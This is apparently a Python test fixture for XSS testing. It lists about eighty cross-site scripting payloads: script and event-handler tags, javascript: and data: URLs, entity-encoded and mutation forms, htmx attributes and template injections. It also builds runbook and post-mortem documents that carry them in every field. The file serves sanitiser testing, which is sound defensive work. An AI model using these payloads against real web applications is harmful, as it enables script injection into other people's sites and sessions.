"""Hostile text for the XSS tests, and documents that carry it everywhere a document can.

Each payload is a template: `{n}` is its number and `{u}` the unique address it would make the
page fetch (`http://xss-<n>.invalid/`), so a dialog, a request or a console line names the payload
that got through. Written for this project, in the shape of the documents operators import.
"""

import json

PAYLOADS = [
    # script and style tags
    "<script>alert({n})</script>",
    "<SCRIPT SRC={u}x.js></SCRIPT>",
    "<ScRiPt>fetch('{u}')</sCrIpT>",
    "<style>@import '{u}';</style>",
    '<STYLE>li {{ list-style-image: url("{u}") }}</STYLE>',
    "<link rel=stylesheet href={u}>",
    '<meta http-equiv="refresh" content="0;url={u}">',
    "<base href={u}>",
    # event handlers
    "<img src=x onerror=alert({n})>",
    "<img src=x OnErRoR=\"fetch('{u}')\">",
    "<body onload=alert({n})>",
    "<svg onload=alert({n})>",
    "<details open ontoggle=alert({n})><summary>x</summary></details>",
    "<input autofocus onfocus=alert({n})>",
    "<video><source onerror=alert({n})></video>",
    "<audio src=x onerror=alert({n})></audio>",
    "<marquee onstart=alert({n})>x</marquee>",
    '<div onmouseover="alert({n})" onclick="alert({n})" onpointerenter="alert({n})">hover</div>',
    '<a href="#" onclick=alert({n}) onfocus=alert({n}) autofocus>click</a>',
    "<form><button formaction=javascript:alert({n})>go</button></form>",
    "<select autofocus onfocus=alert({n})></select>",
    "<textarea autofocus onfocus=alert({n})></textarea>",
    "<iframe onload=alert({n})></iframe>",
    "<object data={u}></object>",
    "<embed src={u}>",
    "<p onanimationstart=alert({n}) onwheel=alert({n}) onkeydown=alert({n})>keys</p>",
    # URLs in links, images and reference definitions
    "[link {n}](javascript:alert({n}))",
    "[link {n}](JaVaScRiPt:alert({n}))",
    "[link {n}](&#106;avascript:alert({n}))",
    "[link {n}](java&#x09;script:alert({n}))",
    "[link {n}](vbscript:msgbox({n}))",
    "[link {n}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image {n}](javascript:alert({n}))",
    "![image {n}]({u}pixel.png)",
    '<img src="{u}raw.png" alt="raw {n}">',
    '<img srcset="{u}a.png 1x" alt="set {n}">',
    "[ref {n}][r{n}]\n\n[r{n}]: javascript:alert({n})",
    "![ref image {n}][i{n}]\n\n[i{n}]: {u}ref.png",
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert({n})">entities {n}</a>',
    '<a href="jav&#x0A;ascript:alert({n})">newline {n}</a>',
    "<IMG SRC=JaVaScRiPt:alert({n})>",
    "<a href=data:text/html,%3Cscript%3Ealert({n})%3C/script%3E>data {n}</a>",
    # SVG and MathML
    "<svg><script>alert({n})</script></svg>",
    '<svg><a xlink:href="javascript:alert({n})"><text x="0" y="15">svg link {n}</text></a></svg>',
    "<svg><animate onbegin=alert({n}) attributeName=x dur=1s></svg>",
    '<svg><image href="{u}svg.png"></image></svg>',
    "<svg><foreignObject><iframe src={u}></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})></style></mglyph></table></mtext></math>",
    '<math href="javascript:alert({n})"><mi>x</mi></math>',
    # iframes and srcdoc
    '<iframe src="{u}"></iframe>',
    '<iframe srcdoc="<script>alert({n})</script>"></iframe>',
    '<iframe src="javascript:alert({n})"></iframe>',
    "<frameset><frame src={u}></frameset>",
    # CSS
    '<div style="background:url({u})">css {n}</div>',
    '<p style="width:expression(alert({n}))">expression {n}</p>',
    "<span style=\"background-image:url('javascript:alert({n})')\">css js {n}</span>",
    # entity-encoded, mixed-case and broken-up forms, and breaking out of attributes and elements
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    '"><script>alert({n})</script>',
    "'><img src=x onerror=alert({n})>",
    "</textarea><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    '<!--<img src="--><img src=x onerror=alert({n})//">',
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>"></noscript>',
    # htmx attributes that would fetch or run something
    '<div hx-get="{u}" hx-trigger="load">htmx get {n}</div>',
    '<button hx-post="{u}" hx-trigger="load">htmx post {n}</button>',
    '<div hx-on:htmx:load="alert({n})" hx-on::load="alert({n})">htmx on {n}</div>',
    '<div hx-vals=\'js:{{a: alert({n})}}\' hx-get="/" hx-trigger="load">htmx vals {n}</div>',
    '<a hx-get="{u}" hx-trigger="revealed" hx-target="body">htmx revealed {n}</a>',
    '<div data-hx-get="{u}" data-hx-trigger="load">data-hx {n}</div>',
    '<div hx-get="/" hx-trigger="load[alert({n})]">htmx filter {n}</div>',
    '<div hx-get="/" hx-trigger="load" hx-headers=\'js:{{a: alert({n})}}\'>htmx headers {n}</div>',
    # Hugo shortcodes and template placeholders
    '{{{{< ref "javascript:alert({n})" >}}}}',
    '{{{{< ref "\\"><script>alert({n})</script>" >}}}}',
    '{{{{< figure src="{u}" >}}}}',
    "{{{{ .Site.Params.x }}}}<script>alert({n})</script>",
    "<%= alert({n}) %> <%- '<img src=x onerror=alert({n})>' %>",
    "{{{{constructor.constructor('alert({n})')()}}}} ${{alert({n})}}",
]


def payload(n: int) -> str:
    return PAYLOADS[n].format(n=n, u=f"http://xss-{n}.invalid/")


def all_payloads() -> list[str]:
    return [payload(n) for n in range(len(PAYLOADS))]


def one_line(text: str) -> str:
    """A payload for a place that holds one line (a title, a table cell, a label)."""
    return " ".join(text.replace("|", "&#124;").split())


def runbook_text(alert: str) -> str:
    """A runbook whose front matter, title, headings, tables, text and code carry every payload."""
    lines = [
        "---",
        f"title: {json.dumps('Hostile runbook ' + one_line(payload(0)) + ' (' + alert + ')')}",
        f"alert: {alert}",
        "labels:",
        f"  namespace: {json.dumps(one_line(payload(8)))}",
        f"owner: {json.dumps(one_line(payload(65)))}",
        "---",
        f"# Hostile runbook {one_line(payload(1))} ({alert})",
        "",
        "## Alert",
        f"`{alert}` fires for container `velero` in namespace `velero`.",
        "",
        "## Investigation Steps",
        "",
        "```bash",
        "kubectl -n <namespace> logs <pod> --previous",
        *all_payloads(),
        "```",
        "",
        "## Resolution History",
        "",
        "| Date | Incident | Notes |",
        "|------|----------|-------|",
        *(f"| 2026-03-{1 + n % 28:02d} | #{900 + n} | {one_line(payload(n))} |" for n in range(len(PAYLOADS))),
        "",
    ]
    for n in range(len(PAYLOADS)):
        lines += [
            f"## Step {n} {one_line(payload(n))}",
            "",
            payload(n),
            "",
            f"Run `{one_line(payload(n))}` and check.",
            "",
        ]
    return "\n".join(lines)


def postmortem_text() -> str:
    """A post-mortem whose field table, timeline, follow-ups and lessons carry every payload."""
    lines = [
        f"# Post-mortem: hostile input {one_line(payload(2))}",
        "",
        "| Field | Value |",
        "|-------|-------|",
        "| Date | 2026-06-01 |",
        "| Duration | 45 minutes |",
        f"| Severity | {one_line(payload(9))} |",
        f"| Affected | {one_line(payload(10))} |",
        f"| Status | {one_line(payload(11))} |",
        "",
        "## Summary",
        "",
        one_line(payload(12)),
        "",
        "## Timeline",
        "",
        "| Time | Event |",
        "|------|-------|",
        *(f"| 10:{n % 60:02d} | {one_line(payload(n))} |" for n in range(len(PAYLOADS))),
        "",
        "## Action items",
        "",
        *(f"- [ ] {one_line(payload(n))} (owner: erin)" for n in range(len(PAYLOADS))),
        "",
        "## Lessons",
        "",
        *(f"- {one_line(payload(n))}" for n in range(len(PAYLOADS))),
        "",
        # Last: an unclosed `<body>` swallows the rest of the document into one HTML block.
        "## Appendix",
        "",
        "\n\n".join(all_payloads()),
        "",
    ]
    return "\n".join(lines)
